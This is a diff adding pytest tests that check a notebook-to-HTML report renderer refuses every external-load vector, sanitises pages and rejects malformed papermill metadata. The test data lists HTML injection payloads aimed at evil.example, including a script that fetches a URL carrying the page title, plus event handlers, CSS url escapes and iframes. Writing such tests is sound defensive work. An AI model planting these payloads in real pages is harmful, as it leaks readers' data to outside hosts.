@@ -353,3 +353,102 @@ def test_a_huge_cell_gets_an_accurate_error(mini_root):
     with pytest.raises(DataError, match=r"mine\.csv row 2: a cell holds more than 131,072 characters") as caught:
         load(mini_root, extra_observations=path)
     assert "truncated" not in str(caught.value)
+
+
+# ---------------------------------------------------------------------------------------------
+# 10. Offline means offline: every external-load vector refused, the page sanitised; malformed
+#     papermill metadata is one line and leaves no run folder
+
+import nbformat  # noqa: E402
+import nbformat.v4 as v4  # noqa: E402
+
+VECTORS = {
+    "https-without-slashes": '<img src="https:evil.example/x.png">',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "svg-image-href": '<svg><image href="https://evil.example/x.png"/></svg>',
+    "svg-xlink-href": '<svg><image xlink:href="//evil.example/x.png"/></svg>',
+    "base-href": '<base href="https://evil.example/">',
+    "inline-script-fetch": '<script>fetch("https://evil.example/?" + document.title)</script>',
+    "inline-script": "<script>document.title = 'x'</script>",
+    "srcset": '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/x.png 2x">',
+    "css-url": '<style>.x { background: url("https:evil.example/x.png") }</style>',
+    "css-escaped-url": '<style>.x { background: u\\72l(https://evil.example/x.png) }</style>',
+    "css-import": "<style>@import 'https://evil.example/x.css';</style>",
+    "style-attribute-url": '<div style="background-image: url(//evil.example/x.png)">x</div>',
+    "event-handler": '<img src="data:image/png;base64,AAAA" onerror="this.src=\'https://evil.example\'">',
+    "iframe": '<iframe src="https:evil.example"></iframe>',
+    "object-data": '<object data="https://evil.example/x.swf"></object>',
+    "video-poster": '<video poster="https://evil.example/x.png"></video>',
+}
+
+
+def html_output_notebook(html: str):
+    """A notebook whose one cell showed ``html`` (as ``display(HTML(...))`` would)."""
+    cell = v4.new_code_cell("display(HTML(...))", outputs=[
+        v4.new_output("display_data", data={"text/html": html, "text/plain": "<HTML>"})])
+    return v4.new_notebook(cells=[v4.new_markdown_cell("# Report"), cell])
+
+
+@pytest.mark.parametrize("vector", list(VECTORS))
+def test_every_external_load_vector_is_refused(vector):
+    assert report.external_references(VECTORS[vector]), vector
+    with pytest.raises(ValueError, match="offline"):
+        report.notebook_to_html(html_output_notebook(VECTORS[vector]), "t", "")
+
+
+def test_the_sanitiser_keeps_what_a_report_needs_and_drops_the_rest():
+    page = ('<!DOCTYPE html>\n<html lang="vi">\n<head><meta charset="utf-8"><title>T</title>'
+            '<meta http-equiv="refresh" content="0"><base href="x/"><script>alert(1)</script></head>'
+            '<body class="jp-Notebook"><h1 id="a">T</h1><table><tr><td colspan="2">1</td></tr></table>'
+            '<a href="https://example.org/source">source</a><img src="data:image/png;base64,AAAA" alt="fig" '
+            'onload="x()"><img src="https:evil.example/x.png"><script>fetch("x")</script>'
+            '<svg><image href="https://evil.example/x.png"/></svg><form action="https://evil.example"></form>'
+            '</body></html>')
+    clean = report.sanitise_page(page)
+    assert report.external_references(clean) == []
+    for kept in ('<html lang="vi">', '<meta charset="utf-8">', "<title>T</title>", '<body class="jp-Notebook">',
+                 '<h1 id="a">T</h1>', '<td colspan="2">1</td>', '<a href="https://example.org/source">source</a>',
+                 '<img src="data:image/png;base64,AAAA" alt="fig">'):
+        assert kept in clean, kept
+    for dropped in ("refresh", "<base", "<script", "alert", "fetch", "onload", "evil.example", "<svg", "<form"):
+        assert dropped not in clean, dropped
+
+
+def test_a_real_report_page_is_unchanged_in_what_it_shows():
+    """A report page of the lab template passes the check, and sanitising keeps its figures, tables and styles."""
+    import re
+
+    nb = v4.new_notebook(cells=[v4.new_markdown_cell("# Report\n\n[source](https://example.org/a)"),
+                                v4.new_code_cell("t", outputs=[v4.new_output("display_data", data={
+                                    "text/html": '<style>.nq57-reader td { color: #333 }</style><table class='
+                                                 '"nq57-reader"><tr><th style="text-align: left">a</th><td>1</td>'
+                                                 "</tr></table>", "text/plain": "x"}),
+                                    v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=",
+                                                                        "text/plain": "x"})])])
+    page = report.notebook_to_html(nb, "t", '<header class="nq57-provenance"><h1>t</h1></header>')
+    assert report.external_references(page) == []
+    assert 'href="https://example.org/a"' in page and "data:image/png;base64,iVBORw0KGgo=" in page
+    assert '<th style="text-align: left">a</th>' in page and ".nq57-reader td { color: #333 }" in page
+    assert '<header class="nq57-provenance">' in page and len(re.findall("<style", page)) >= 2
+
+
+def papermill_output(tmp_path: Path, **papermill) -> Path:
+    nb = v4.new_notebook(cells=[v4.new_markdown_cell("# Budget"), v4.new_code_cell("1", execution_count=1)])
+    nb.metadata["papermill"] = {"input_path": "budget_floor.ipynb", "parameters": {"geo": "vn"},
+                                "start_time": "2026-01-01T00:00:00", "end_time": "2026-01-01T00:00:05",
+                                "duration": 5.0, "exception": None, **papermill}
+    path = tmp_path / "out.ipynb"
+    nbformat.write(nb, path)
+    return path
+
+
+@pytest.mark.parametrize("papermill", [
+    {"start_time": "not a time"}, {"duration": "fast"}, {"parameters": ["geo", "vn"]}, {"input_path": 5},
+    {"end_time": 20260101}, {"exception": "yes"},
+])
+def test_malformed_papermill_metadata_is_one_line_and_leaves_no_run_folder(tmp_path, papermill):
+    reports = tmp_path / "reports"
+    code, _, err = nq57("render", str(papermill_output(tmp_path, **papermill)), "--reports-dir", str(reports))
+    line = one_line_naming(code, err, "notebook")
+    assert "Traceback" not in err and ("malformed papermill metadata" in line or "no papermill metadata" in line)
+    assert not [p for p in reports.glob("runs/*") if not (p / report.MANIFEST_NAME).exists()]
